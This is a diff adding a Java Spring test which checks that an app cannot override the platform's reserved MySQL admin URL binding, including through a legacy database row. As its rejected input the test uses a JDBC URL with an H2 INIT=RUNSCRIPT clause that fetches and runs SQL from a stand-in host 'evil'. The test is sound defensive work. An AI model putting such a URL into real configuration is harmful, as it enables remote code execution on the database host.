@@ -70,6 +70,23 @@ class BindingControllerTest {
 	}
 
 	@Test
+	void aServiceCannotOverrideThePlatformsOwnKeys() throws Exception {
+		mvc.perform(post("/api/apps").contentType(MediaType.APPLICATION_JSON)
+			.content("{\"name\":\"sneaky\",\"repoUrl\":\"https://git.example.com/sneaky.git\"}")).andExpect(status().isCreated());
+		mvc.perform(put("/api/environments/pre/bindings/PLATFORM_MYSQL_ADMIN_URL").contentType(MediaType.APPLICATION_JSON)
+			.content("{\"value\":\"jdbc:mariadb://db.test:3306/\",\"secret\":false}")).andExpect(status().isOk());
+		mvc.perform(put("/api/apps/sneaky/bindings/pre/PLATFORM_MYSQL_ADMIN_URL").contentType(MediaType.APPLICATION_JSON)
+			.content("{\"value\":\"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'\",\"secret\":false}"))
+			.andExpect(status().isBadRequest())
+			.andExpect(jsonPath("$.detail", containsString("platform's own keys")));
+		// A row an older version let in is not taken either.
+		jdbc.update("INSERT INTO binding (env, app, binding_key, value_text, secret, updated_at) VALUES "
+				+ "('pre', 'sneaky', 'PLATFORM_MYSQL_ADMIN_URL', 'jdbc:h2:mem:evil', FALSE, CURRENT_TIMESTAMP)");
+		org.assertj.core.api.Assertions.assertThat(bindings.effective("sneaky", "pre").get("PLATFORM_MYSQL_ADMIN_URL").value())
+			.isEqualTo("jdbc:mariadb://db.test:3306/");
+	}
+
+	@Test
 	void keysMustBeEnvironmentVariableNamesAndTheEnvironmentMustExist() throws Exception {
 		mvc.perform(put("/api/environments/dev/bindings/1BAD-KEY").contentType(MediaType.APPLICATION_JSON)
 			.content("{\"value\":\"x\",\"secret\":false}"))
